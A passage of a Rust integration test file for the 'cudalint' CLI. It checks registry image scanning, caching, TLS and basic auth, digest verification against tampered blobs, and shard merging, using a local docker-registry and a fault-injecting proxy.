//! Registry scans against a real registry: the CNCF distribution registry (Debian package
//! `docker-registry`), started here on a free loopback port with its own storage, images pushed
//! with skopeo; a small TCP proxy in front counts requests and cuts connections on demand.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command as Proc, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use assert_cmd::Command;
use cudalint::image::{ScanError, ScanOptions};
use cudalint::registry::{RealmRefusal, RegistryError, RegistryOptions, Remote, TokenError, parse_reference};

use crate::images::{Comp, Ent, Image, compress, oci_layout, tar};
use crate::scan::which;
use crate::util::{fixture, read_fixture};

pub struct Registry {
    child: Child,
    pub port: u16,
    pub dir: tempfile::TempDir,
    pub tls: bool,
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn openssl(args: &[&str], dir: &Path) {
    let out = Proc::new(which("openssl")).args(args).current_dir(dir).output().unwrap();
    assert!(out.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

impl Registry {
    /// `auth`: htpasswd user and password (bcrypt, as the registry requires).
    pub fn start(tls: bool, auth: Option<(&str, &str)>) -> Registry {
        let bin = which("docker-registry");
        let dir = tempfile::tempdir().unwrap();
        let port = free_port();
        let mut cfg = format!(
            "version: 0.1\nlog:\n  level: info\n  accesslog:\n    disabled: true\nstorage:\n  filesystem:\n    rootdirectory: {}\n  delete:\n    enabled: true\nhttp:\n  addr: 127.0.0.1:{port}\n",
            dir.path().join("data").display()
        );
        if tls {
            let d = dir.path();
            openssl(
                &[
                    "req",
                    "-x509",
                    "-newkey",
                    "rsa:2048",
                    "-nodes",
                    "-keyout",
                    "ca.key",
                    "-out",
                    "ca.crt",
                    "-days",
                    "2",
                    "-subj",
                    "/CN=cudalint test CA",
                ],
                d,
            );
            openssl(
                &[
                    "req",
                    "-newkey",
                    "rsa:2048",
                    "-nodes",
                    "-keyout",
                    "server.key",
                    "-out",
                    "server.csr",
                    "-subj",
                    "/CN=127.0.0.1",
                ],
                d,
            );
            std::fs::write(d.join("san.ext"), "subjectAltName=IP:127.0.0.1,DNS:localhost\n").unwrap();
            openssl(
                &[
                    "x509",
                    "-req",
                    "-in",
                    "server.csr",
                    "-CA",
                    "ca.crt",
                    "-CAkey",
                    "ca.key",
                    "-CAcreateserial",
                    "-out",
                    "server.crt",
                    "-days",
                    "2",
                    "-extfile",
                    "san.ext",
                ],
                d,
            );
            cfg.push_str(&format!(
                "  tls:\n    certificate: {}\n    key: {}\n",
                d.join("server.crt").display(),
                d.join("server.key").display()
            ));
        }
        if let Some((u, p)) = auth {
            let hash = bcrypt::hash(p, 5).unwrap();
            std::fs::write(dir.path().join("htpasswd"), format!("{u}:{hash}\n")).unwrap();
            cfg.push_str(&format!(
                "auth:\n  htpasswd:\n    realm: cudalint-test\n    path: {}\n",
                dir.path().join("htpasswd").display()
            ));
        }
        let cfg_path = dir.path().join("config.yml");
        std::fs::write(&cfg_path, cfg).unwrap();
        let log = std::fs::File::create(dir.path().join("registry.log")).unwrap();
        let child = Proc::new(bin).arg("serve").arg(&cfg_path).stdout(Stdio::null()).stderr(log).spawn().unwrap();
        let deadline = Instant::now() + Duration::from_secs(20);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "docker-registry did not start on port {port}");
            std::thread::sleep(Duration::from_millis(50));
        }
        Registry { child, port, dir, tls }
    }

    pub fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    pub fn ca(&self) -> PathBuf {
        self.dir.path().join("ca.crt")
    }

    /// Pushes an OCI layout (all its platforms) with skopeo.
    pub fn push(&self, layout: &Path, repo_tag: &str, creds: Option<(&str, &str)>) {
        let mut cmd = Proc::new(which("skopeo"));
        cmd.args(["--insecure-policy", "copy", "-q", "--all"]);
        if self.tls {
            // skopeo reads CAs from a directory of *.crt files.
            let certs = self.dir.path().join("certs.d");
            std::fs::create_dir_all(&certs).unwrap();
            std::fs::copy(self.ca(), certs.join("ca.crt")).unwrap();
            cmd.arg("--dest-cert-dir").arg(&certs);
        } else {
            cmd.arg("--dest-tls-verify=false");
        }
        if let Some((u, p)) = creds {
            cmd.arg("--dest-creds").arg(format!("{u}:{p}"));
        }
        cmd.arg(format!("oci:{}:latest", layout.display())).arg(format!("docker://{}/{repo_tag}", self.host()));
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "skopeo push {repo_tag}: {}", String::from_utf8_lossy(&out.stderr));
    }

    /// A bare HTTP/1.1 request to the registry (plain HTTP, no auth): status, the `Location`
    /// header if any, and the body.
    pub fn http(&self, method: &str, path: &str, content_type: &str, body: &[u8]) -> (u16, Option<String>, Vec<u8>) {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        let accept = format!("{OCI_MANIFEST}, {OCI_INDEX}");
        write!(
            s,
            "{method} {path} HTTP/1.1\r\nHost: {}\r\nAccept: {accept}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            self.host(),
            body.len()
        )
        .unwrap();
        s.write_all(body).unwrap();
        let mut out = Vec::new();
        s.read_to_end(&mut out).unwrap();
        let split = out.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
        let head = String::from_utf8_lossy(&out[..split]).to_string();
        let status = head.split(' ').nth(1).unwrap().parse().unwrap();
        let location = head.lines().find_map(|l| {
            l.split_once(':').filter(|(k, _)| k.eq_ignore_ascii_case("location")).map(|(_, v)| v.trim().to_string())
        });
        (status, location, out[split + 4..].to_vec())
    }

    /// Uploads a blob into `repo` (POST, then PUT with its digest).
    pub fn put_blob(&self, repo: &str, data: &[u8]) {
        let (st, loc, body) = self.http("POST", &format!("/v2/{repo}/blobs/uploads/"), "text/plain", b"");
        assert_eq!(st, 202, "{}", String::from_utf8_lossy(&body));
        let loc = loc.unwrap();
        // The Location may be absolute: keep its path and query.
        let path = match loc.find("/v2/") {
            Some(i) => loc[i..].to_string(),
            None => loc,
        };
        let sep = if path.contains('?') { '&' } else { '?' };
        let (st, _, body) =
            self.http("PUT", &format!("{path}{sep}digest={}", sha256_of(data)), "application/octet-stream", data);
        assert_eq!(st, 201, "{}", String::from_utf8_lossy(&body));
    }

    /// Puts a manifest (or index) into `repo` under `reference` (a tag or its digest); returns
    /// its digest.
    pub fn put_manifest(&self, repo: &str, reference: &str, media_type: &str, manifest: &[u8]) -> String {
        let (st, _, body) = self.http("PUT", &format!("/v2/{repo}/manifests/{reference}"), media_type, manifest);
        assert_eq!(st, 201, "{repo}:{reference}: {}", String::from_utf8_lossy(&body));
        sha256_of(manifest)
    }

    /// The file holding a blob in the registry's storage.
    pub fn blob_file(&self, digest: &str) -> PathBuf {
        let hex = digest.strip_prefix("sha256:").unwrap();
        self.dir.path().join("data/docker/registry/v2/blobs/sha256").join(&hex[..2]).join(hex).join("data")
    }
}

/// A TCP proxy that counts HTTP requests by path and can stop relaying (and refuse new
/// connections) after a number of response bytes: a registry that dies mid-download. With
/// `hang` set it freezes instead (a stopped process): connections stay open, new ones are
/// taken, and nothing more is answered.
pub struct Proxy {
    pub port: u16,
    pub requests: Arc<Mutex<Vec<String>>>,
    pub cut_after: Arc<AtomicU64>,
    pub hang: Arc<AtomicBool>,
    stopped: Arc<AtomicBool>,
}

impl Proxy {
    pub fn start(upstream: u16) -> Proxy {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let cut_after = Arc::new(AtomicU64::new(u64::MAX));
        let stopped = Arc::new(AtomicBool::new(false));
        let hang = Arc::new(AtomicBool::new(false));
        let relayed = Arc::new(AtomicU64::new(0));
        let (r2, c2, s2, h2) = (requests.clone(), cut_after.clone(), stopped.clone(), hang.clone());
        std::thread::spawn(move || {
            let mut held = Vec::new();
            for conn in listener.incoming() {
                let Ok(client) = conn else { continue };
                if s2.load(Ordering::SeqCst) {
                    if h2.load(Ordering::SeqCst) {
                        held.push(client);
                    }
                    continue;
                }
                let Ok(server) = TcpStream::connect(("127.0.0.1", upstream)) else { continue };
                let (mut c_in, mut s_out) = (client.try_clone().unwrap(), server.try_clone().unwrap());
                let reqs = r2.clone();
                std::thread::spawn(move || {
                    let mut buf = [0u8; 16384];
                    let mut pending = Vec::new();
                    while let Ok(n) = c_in.read(&mut buf) {
                        if n == 0 || s_out.write_all(&buf[..n]).is_err() {
                            break;
                        }
                        pending.extend_from_slice(&buf[..n]);
                        while let Some(i) = pending.windows(2).position(|w| w == b"\r\n") {
                            let line = String::from_utf8_lossy(&pending[..i]).into_owned();
                            if line.starts_with("GET ") || line.starts_with("HEAD ") {
                                reqs.lock().unwrap().push(line);
                            }
                            pending.drain(..i + 2);
                        }
                    }
                    let _ = s_out.shutdown(std::net::Shutdown::Write);
                });
                let (mut s_in, mut c_out) = (server, client);
                let (cut, stop, relayed, hang) = (c2.clone(), s2.clone(), relayed.clone(), h2.clone());
                std::thread::spawn(move || {
                    let mut buf = [0u8; 16384];
                    while let Ok(n) = s_in.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        let total = relayed.fetch_add(n as u64, Ordering::SeqCst) + n as u64;
                        if total > cut.load(Ordering::SeqCst) || stop.load(Ordering::SeqCst) {
                            // The registry "dies": this connection drops, no new one is served;
                            // or it freezes: the connection stays open and silent.
                            stop.store(true, Ordering::SeqCst);
                            if hang.load(Ordering::SeqCst) {
                                std::thread::sleep(Duration::from_secs(3600));
                            }
                            let _ = c_out.shutdown(std::net::Shutdown::Both);
                            break;
                        }
                        if c_out.write_all(&buf[..n]).is_err() {
                            break;
                        }
                    }
                    let _ = c_out.shutdown(std::net::Shutdown::Both);
                });
            }
        });
        Proxy { port, requests, cut_after, hang, stopped }
    }

    pub fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    pub fn blob_gets(&self, digest: &str) -> usize {
        self.requests
            .lock()
            .unwrap()
            .iter()
            .filter(|r| r.starts_with("GET ") && r.contains(&format!("/blobs/{digest}")))
            .count()
    }
}

/// An image whose biggest layer is large enough to be cut mid-download.
fn test_image(arch: &'static str, extra: &'static str) -> Image {
    let mut big = read_fixture("libmulti.so");
    big.extend(vec![7u8; 4 << 20]);
    let l1 = tar(&[
        Ent::File("usr/lib/libmulti-padded.bin", big),
        Ent::File("usr/lib/libsm90a.so", read_fixture("libsm90a.so")),
    ]);
    let l2 = tar(&[Ent::File(extra, read_fixture("libsm100f.so"))]);
    let mut img = Image::new(vec![(l1, Comp::Gzip), (l2, Comp::None)]);
    img.arch = arch;
    img
}

fn opts(cache: Option<&Path>) -> ScanOptions {
    let mut o = ScanOptions { progress: false, ..ScanOptions::default() };
    o.registry = RegistryOptions { retries: 2, ..RegistryOptions::default() };
    o.cache = cache.map(|c| Arc::new(cudalint::cache::LayerCache::new(c.to_path_buf())));
    o
}

fn cached_entries(dir: &Path) -> usize {
    // Entries only, not the single-flight lock files beside them.
    std::fs::read_dir(dir.join("layers"))
        .map(|r| r.flatten().filter(|e| !e.file_name().to_string_lossy().ends_with(".lock")).count())
        .unwrap_or(0)
}

fn files_json(r: &cudalint::image::ImageReport) -> serde_json::Value {
    let mut v = serde_json::to_value(&r.files).unwrap();
    for f in v.as_array_mut().unwrap() {
        f.as_object_mut().unwrap().remove("layer");
    }
    v
}

#[test]
fn anonymous_pull_equals_the_local_scan_and_a_warm_cache_downloads_nothing() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    let img = test_image("amd64", "opt/extra/libsm100f.so");
    oci_layout(layout.path(), &[&img]);
    reg.push(layout.path(), "app/cuda:1", None);
    let proxy = Proxy::start(reg.port);
    let cache = tempfile::tempdir().unwrap();
    let spec = format!("{}/app/cuda:1", proxy.host());
    let remote = cudalint::image::scan(&spec, &opts(Some(cache.path()))).unwrap();
    let local = cudalint::image::scan(&format!("oci:{}", layout.path().display()), &opts(None)).unwrap();
    assert_eq!(files_json(&remote), files_json(&local));
    assert_eq!(remote.image.source.as_str(), "registry");
    assert!(remote.image.layers.iter().all(|l| l.verified));
    // skopeo may recompress layers on push: the registry's digests are the manifest's.
    let layers: Vec<String> = remote.image.layers.iter().map(|l| l.digest.clone()).collect();
    assert_eq!(layers.len(), img.layers.len());
    assert!(layers.iter().all(|d| proxy.blob_gets(d) == 1), "{:?}", proxy.requests.lock().unwrap());
    assert_eq!(cached_entries(cache.path()), 2);
    // Warm: the same layers are not downloaded again.
    let again = cudalint::image::scan(&spec, &opts(Some(cache.path()))).unwrap();
    assert_eq!(files_json(&again), files_json(&remote));
    assert_eq!(again.stats.layers_from_cache, 2);
    assert!(
        layers.iter().all(|d| proxy.blob_gets(d) == 1),
        "second run fetched a layer: {:?}",
        proxy.requests.lock().unwrap()
    );
    // A corrupt cache entry is dropped and rebuilt.
    for e in std::fs::read_dir(cache.path().join("layers")).unwrap() {
        std::fs::write(e.unwrap().path(), b"not zstd").unwrap();
    }
    let rebuilt = cudalint::image::scan(&spec, &opts(Some(cache.path()))).unwrap();
    assert_eq!(files_json(&rebuilt), files_json(&remote));
    assert_eq!(rebuilt.stats.layers_from_cache, 0);
}

#[test]
fn basic_auth_over_tls_with_a_test_ca() {
    let reg = Registry::start(true, Some(("ci", "s3cret")));
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/x/libsm100f.so")]);
    reg.push(layout.path(), "secure/img:1", Some(("ci", "s3cret")));
    let spec = format!("{}/secure/img:1", reg.host());
    let cli = |user: &str, pass: &str, ca: bool| {
        let mut c = Command::cargo_bin("cudalint").unwrap();
        c.args([
            "scan",
            &spec,
            "--quiet",
            "--no-cache",
            "--format",
            "inventory",
            "--username",
            user,
            "--password-stdin",
        ]);
        if ca {
            c.arg("--ca-cert").arg(reg.ca());
        }
        c.write_stdin(format!("{pass}\n")).output().unwrap()
    };
    let ok = cli("ci", "s3cret", true);
    assert!(
        ok.status.code() != Some(2),
        "{}\nregistry log:\n{}",
        String::from_utf8_lossy(&ok.stderr),
        std::fs::read_to_string(reg.dir.path().join("registry.log")).unwrap_or_default()
    );
    let inv: serde_json::Value = serde_json::from_slice(&ok.stdout).unwrap();
    assert!(inv["files"].as_array().unwrap().iter().any(|f| f["path"] == "/opt/x/libsm100f.so"));
    // The password never appears in what cudalint prints.
    assert!(
        !String::from_utf8_lossy(&ok.stdout).contains("s3cret")
            && !String::from_utf8_lossy(&ok.stderr).contains("s3cret")
    );
    let bad = cli("ci", "wrong", true);
    assert_eq!(bad.status.code(), Some(2));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(err.contains("authentication failed") && !err.contains("wrong"), "{err}");
    // Without the test CA the certificate is not trusted.
    let untrusted = cli("ci", "s3cret", false);
    assert_eq!(untrusted.status.code(), Some(2));
    // Credentials from the environment, for that registry only.
    let env_ok = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["scan", &spec, "--quiet", "--no-cache", "--format", "inventory", "--ca-cert"])
        .arg(reg.ca())
        .env("CUDALINT_REGISTRY_USERNAME", "ci")
        .env("CUDALINT_REGISTRY_PASSWORD", "s3cret")
        .env("CUDALINT_REGISTRY_HOST", reg.host())
        .output()
        .unwrap();
    assert!(env_ok.status.code() != Some(2), "{}", String::from_utf8_lossy(&env_ok.stderr));
    let env_other = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["scan", &spec, "--quiet", "--no-cache", "--gpu", "H100", "--ca-cert"])
        .arg(reg.ca())
        .env("CUDALINT_REGISTRY_USERNAME", "ci")
        .env("CUDALINT_REGISTRY_PASSWORD", "s3cret")
        .env("CUDALINT_REGISTRY_HOST", "elsewhere.example")
        .output()
        .unwrap();
    assert_eq!(env_other.status.code(), Some(2), "credentials meant for another registry are not sent");
}

#[test]
fn multi_platform_index_and_missing_tag() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    oci_layout(
        layout.path(),
        &[&test_image("amd64", "opt/amd/libsm100f.so"), &test_image("arm64", "opt/arm/libsm100f.so")],
    );
    reg.push(layout.path(), "multi/img:1", None);
    let spec = format!("{}/multi/img:1", reg.host());
    let mut o = opts(None);
    o.platform = Some(cudalint::image::Platform::parse("linux/arm64").unwrap());
    let r = cudalint::image::scan(&spec, &o).unwrap();
    assert_eq!(r.image.platform.as_deref(), Some("linux/arm64"));
    assert!(r.files.iter().any(|f| f.file.path == "/opt/arm/libsm100f.so"));
    o.platform = Some(cudalint::image::Platform::parse("linux/s390x").unwrap());
    let e = cudalint::image::scan(&spec, &o).unwrap_err().to_string();
    assert!(e.contains("linux/amd64") && e.contains("linux/arm64"), "{e}");
    let e = cudalint::image::scan(&format!("{}/multi/img:nope", reg.host()), &opts(None)).unwrap_err().to_string();
    assert!(e.contains("nope") && (e.to_lowercase().contains("not found") || e.contains("unknown")), "{e}");
}

#[test]
fn tampered_blob_fails_and_caches_nothing() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    let img = test_image("amd64", "opt/t/libsm100f.so");
    oci_layout(layout.path(), &[&img]);
    reg.push(layout.path(), "t/img:1", None);
    let pushed = cudalint::image::scan(&format!("{}/t/img:1", reg.host()), &opts(None)).unwrap();
    let plain = pushed.image.layers[1].digest.clone();
    let f = reg.blob_file(&plain);
    // A changed gzip MTIME field: same size, decodes the same, different digest.
    let original = std::fs::read(&f).unwrap();
    assert_eq!(&original[..2], &[0x1f, 0x8b]);
    let mut tampered = original.clone();
    tampered[4] ^= 0x5A;
    std::fs::write(&f, &tampered).unwrap();
    let cache = tempfile::tempdir().unwrap();
    let e = cudalint::image::scan(&format!("{}/t/img:1", reg.host()), &opts(Some(cache.path()))).unwrap_err();
    assert!(matches!(e, ScanError::Digest { .. }), "{e}");
    assert!(e.to_string().contains(&plain), "{e}");
    // The untouched layer may be cached; the tampered one must not be.
    assert!(cached_entries(cache.path()) <= 1);
    let again = cudalint::image::scan(&format!("{}/t/img:1", reg.host()), &opts(Some(cache.path()))).unwrap_err();
    assert!(matches!(again, ScanError::Digest { .. }), "{again}");
    // Recompressed (another size): refused as well, naming the layer.
    let mut tar = Vec::new();
    flate2::read::MultiGzDecoder::new(&original[..]).read_to_end(&mut tar).unwrap();
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(&tar).unwrap();
    std::fs::write(&f, enc.finish().unwrap()).unwrap();
    let e = cudalint::image::scan(&format!("{}/t/img:1", reg.host()), &opts(Some(cache.path()))).unwrap_err();
    assert!(e.to_string().contains(&plain), "{e}");
    assert!(cached_entries(cache.path()) <= 1);
}

#[test]
fn registry_stopping_mid_pull_is_an_error_and_caches_nothing() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/s/libsm100f.so")]);
    reg.push(layout.path(), "s/img:1", None);
    let proxy = Proxy::start(reg.port);
    // Manifest and config go through; the big layer is cut off half way.
    proxy.cut_after.store(40_000, Ordering::SeqCst);
    let cache = tempfile::tempdir().unwrap();
    let mut o = opts(Some(cache.path()));
    o.jobs = 1;
    let e = cudalint::image::scan(&format!("{}/s/img:1", proxy.host()), &o).unwrap_err();
    assert!(proxy.stopped.load(Ordering::SeqCst));
    assert!(e.to_string().contains("layer") || e.to_string().contains("download"), "{e}");
    assert_eq!(cached_entries(cache.path()), 0, "a layer whose download failed is not cached");
}

#[test]
fn catalog_scan_shards_together_equal_the_whole() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    oci_layout(layout.path(), &[&test_image("amd64", "opt/c/libsm100f.so")]);
    for rt in ["a/one:1", "a/one:2", "a/two:1", "b/three:1", "b/three:2", "b/three:10"] {
        reg.push(layout.path(), rt, None);
    }
    let out = tempfile::tempdir().unwrap();
    let run = |extra: &[&str], dir: &Path| {
        Command::cargo_bin("cudalint")
            .unwrap()
            .args(["registry", &reg.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
            .arg(dir)
            .args(extra)
            .output()
            .unwrap()
    };
    let whole = out.path().join("whole");
    let o = run(&[], &whole);
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    let summary: serde_json::Value =
        serde_json::from_slice(&std::fs::read(whole.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["images"].as_array().unwrap().len(), 6);
    let mut parts = Vec::new();
    for k in 0..3 {
        let d = out.path().join(format!("shard{k}"));
        run(&["--shard", &format!("{k}/3")], &d);
        parts.push(d.join("summary.json"));
    }
    let merged = out.path().join("merged.json");
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .arg("merge")
        .args(&parts)
        .arg("--output")
        .arg(&merged)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(&merged).unwrap()).unwrap();
    assert_eq!(m["images"], summary["images"], "shards together are the whole");
    assert_eq!(m["shards"], serde_json::json!(["0/3", "1/3", "2/3"]));
    // A missing or repeated shard is refused: the merge would look whole and not be.
    for (set, why) in [
        (&[&parts[0], &parts[2]][..], "incomplete: shard 1/3 missing"),
        (&[&parts[0], &parts[1], &parts[2], &parts[1]][..], "shard 1/3 given more than once"),
    ] {
        let o = Command::cargo_bin("cudalint").unwrap().arg("merge").args(set).output().unwrap();
        assert_eq!(o.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&o.stderr).contains(why), "{}", String::from_utf8_lossy(&o.stderr));
    }
    // Filters: repository glob, and the newest N tags in version order.
    let d = out.path().join("filtered");
    run(&["--repo", "b/*", "--newest", "2"], &d);
    let f: serde_json::Value = serde_json::from_slice(&std::fs::read(d.join("summary.json")).unwrap()).unwrap();
    let names: Vec<&str> = f["images"].as_array().unwrap().iter().map(|i| i["image"].as_str().unwrap()).collect();
    assert_eq!(names, [format!("{}/b/three:10", reg.host()), format!("{}/b/three:2", reg.host())]);
    // Indexed Jobs: the shard comes from JOB_COMPLETION_INDEX.
    let d = out.path().join("indexed");
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &reg.host(), "--quiet", "--no-cache", "--gpu", "H100", "--shard", "index/3", "--output-dir"])
        .arg(&d)
        .env("JOB_COMPLETION_INDEX", "1")
        .output()
        .unwrap();
    assert!(o.status.code() != Some(2), "{}", String::from_utf8_lossy(&o.stderr));
    let i: serde_json::Value = serde_json::from_slice(&std::fs::read(d.join("summary.json")).unwrap()).unwrap();
    let s1: serde_json::Value = serde_json::from_slice(&std::fs::read(&parts[1]).unwrap()).unwrap();
    assert_eq!(i["images"].as_array().unwrap().len(), s1["images"].as_array().unwrap().len());
}

#[test]
fn an_image_that_fails_to_scan_is_reported_and_the_run_goes_on() {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    let img = test_image("amd64", "opt/f/libsm100f.so");
    oci_layout(layout.path(), &[&img]);
    reg.push(layout.path(), "good/img:1", None);
    reg.push(layout.path(), "bad/img:1", None);
    // Both repositories share the blob: tamper with a copy only the bad one uses? Blobs are
    // shared in storage, so break the bad tag's manifest link instead.
    let link = reg.dir.path().join("data/docker/registry/v2/repositories/bad/img/_manifests/tags/1/current/link");
    std::fs::write(&link, format!("sha256:{}", "0".repeat(64))).unwrap();
    let out = tempfile::tempdir().unwrap();
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &reg.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
        .arg(out.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "exit 2 when an image could not be scanned");
    let s: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.path().join("summary.json")).unwrap()).unwrap();
    let statuses: Vec<(&str, &str)> = s["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["image"].as_str().unwrap(), i["status"].as_str().unwrap()))
        .collect();
    assert_eq!(statuses.len(), 2);
    assert!(statuses.iter().any(|(i, st)| i.contains("bad/img") && *st == "error"));
    assert!(statuses.iter().any(|(i, st)| i.contains("good/img") && *st != "error"));
    let _ = fixture("libsm100f.so");
}

/// A one-image OCI layout whose config says it was `created` then (None: no `created` at all),
/// holding one CUDA library at `path`: configs differ by their time, so do the tags pushed.
fn layout_created(dir: &Path, lib: &str, path: &'static str, created: Option<&str>) {
    let img = Image::new(vec![(tar(&[Ent::File(path, read_fixture(lib))]), Comp::Gzip)]);
    let built = img.build();
    let mut config: serde_json::Value = serde_json::from_slice(&built.config).unwrap();
    if let Some(c) = created {
        config["created"] = c.into();
    }
    let config = serde_json::to_vec(&config).unwrap();
    let mut manifest: serde_json::Value = serde_json::from_slice(&built.manifest).unwrap();
    manifest["config"]["digest"] = sha256_of(&config).into();
    manifest["config"]["size"] = config.len().into();
    let manifest = serde_json::to_vec(&manifest).unwrap();
    for b in built.blobs.iter().chain([&config, &manifest]) {
        let f = dir.join("blobs/sha256").join(&sha256_of(b)["sha256:".len()..]);
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, b).unwrap();
    }
    let index = serde_json::json!({"schemaVersion": 2, "manifests": [{
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": sha256_of(&manifest), "size": manifest.len(),
        "annotations": {"org.opencontainers.image.ref.name": "latest"}}]});
    std::fs::write(dir.join("index.json"), serde_json::to_vec(&index).unwrap()).unwrap();
    std::fs::write(dir.join("oci-layout"), br#"{"imageLayoutVersion":"1.0.0"}"#).unwrap();
}

fn registry_run(reg: &Registry, dir: &Path, extra: &[&str]) -> std::process::Output {
    Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &reg.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
        .arg(dir)
        .args(extra)
        .output()
        .unwrap()
}

fn summary_of(dir: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(dir.join("summary.json")).unwrap()).unwrap()
}

/// (image, platform) of every result of a summary, in its order.
fn rows(s: &serde_json::Value) -> Vec<(String, Option<String>)> {
    s["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["image"].as_str().unwrap().to_string(), i["platform"].as_str().map(String::from)))
        .collect()
}

#[test]
fn newest_orders_tags_by_creation_time_latest_included_unreadable_last() {
    let reg = Registry::start(false, None);
    // Natural order is latest < v9 < v10 < v11 < zstd: by name the newest two would be v11 and
    // zstd. By creation time they are latest and v9; zstd has no creation time at all.
    for (tag, created) in [
        ("v9", Some("2024-03-01T00:00:00Z")),
        ("v10", Some("2024-01-01T00:00:00.5+00:00")),
        ("v11", Some("2024-02-01T09:00:00+09:00")), // 2024-02-01T00:00:00Z
        ("latest", Some("2024-04-01T00:00:00.123456789Z")),
        ("zstd", None),
    ] {
        let l = tempfile::tempdir().unwrap();
        layout_created(l.path(), "libsm90a.so", "usr/lib/libsm90a.so", created);
        reg.push(l.path(), &format!("torch/vllm:{tag}"), None);
    }
    let out = tempfile::tempdir().unwrap();
    let picked = |n: &str| {
        let d = out.path().join(n);
        let o = registry_run(&reg, &d, &["--newest", n]);
        assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
        let mut tags: Vec<String> =
            rows(&summary_of(&d)).into_iter().map(|(i, _)| i.rsplit(':').next().unwrap().to_string()).collect();
        tags.sort();
        tags
    };
    assert_eq!(picked("2"), ["latest", "v9"]);
    // v11 (created at 09:00 in +09:00, midnight UTC) is newer than v10: offsets are read.
    assert_eq!(picked("3"), ["latest", "v11", "v9"]);
    // The tag without a creation time is the last taken.
    assert_eq!(picked("4"), ["latest", "v10", "v11", "v9"]);
    assert_eq!(picked("5"), ["latest", "v10", "v11", "v9", "zstd"]);
    // Not quiet: the tag that has no creation time is named.
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &reg.host(), "--no-cache", "--gpu", "H100", "--newest", "1", "--output-dir"])
        .arg(out.path().join("loud"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("torch/vllm:zstd: no creation time") && !err.contains(":v9: no creation"), "{err}");
}

#[test]
fn multi_platform_images_are_scanned_per_platform_and_the_summary_says_why() {
    let reg = Registry::start(false, None);
    // amd64 carries sm_90a code (runs on H100), arm64 sm_100f only (fails there).
    let amd = Image::new(vec![(tar(&[Ent::File("usr/lib/libsm90a.so", read_fixture("libsm90a.so"))]), Comp::Gzip)]);
    let mut arm =
        Image::new(vec![(tar(&[Ent::File("usr/lib/libsm100f.so", read_fixture("libsm100f.so"))]), Comp::Gzip)]);
    arm.arch = "arm64";
    let multi = tempfile::tempdir().unwrap();
    oci_layout(multi.path(), &[&amd, &arm]);
    reg.push(multi.path(), "team/app:1", None);
    let single = tempfile::tempdir().unwrap();
    oci_layout(single.path(), &[&arm]);
    reg.push(single.path(), "team/one:1", None);
    let out = tempfile::tempdir().unwrap();
    let whole = out.path().join("whole");
    let o = registry_run(&reg, &whole, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    let s = summary_of(&whole);
    let (app, one) = (format!("{}/team/app:1", reg.host()), format!("{}/team/one:1", reg.host()));
    assert_eq!(
        rows(&s),
        [
            (app.clone(), Some("linux/amd64".to_string())),
            (app.clone(), Some("linux/arm64".to_string())),
            (one.clone(), None)
        ]
    );
    let images = s["images"].as_array().unwrap();
    let field = |i: usize, k: &str| images[i][k].as_str().unwrap_or_default().to_string();
    assert_eq!([field(0, "status"), field(1, "status"), field(2, "status")], ["pass", "fail", "fail"]);
